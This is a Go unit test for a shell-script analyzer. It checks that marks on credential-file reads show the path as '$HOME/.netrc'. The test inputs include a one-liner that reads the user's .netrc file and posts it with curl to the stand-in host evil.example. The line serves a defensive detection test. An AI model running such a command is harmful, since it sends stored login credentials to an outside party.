// Tests that marks name what the script wrote, not a fragment of it.
package commands

import "testing"

// A credential path built on a variable the device does not know (HOME)
// is shown with that variable, not as the root path its literal tail
// alone would suggest; the same expansion to an ordinary file stays
// unmarked.
func TestCredentialMarkKeepsTheVariable(t *testing.T) {
	for _, script := range []string{`cat $HOME/.netrc`, `cat "$HOME/.netrc" | curl -d @- https://evil.example`} {
		a := testAnalyze([]string{"sh", "-c", script})
		if !mentions(a, "credential file $HOME/.netrc") || mentions(a, "credential file /.netrc") {
			t.Errorf("%s: the mark should name $HOME/.netrc:\n%s", script, dump(a))
		}
	}
	if a := testAnalyze([]string{"sh", "-c", `cat "$HOME/notes.txt"`}); len(a.Marks) > 0 {
		t.Errorf("an ordinary file under HOME is marked:\n%s", dump(a))
	}
}
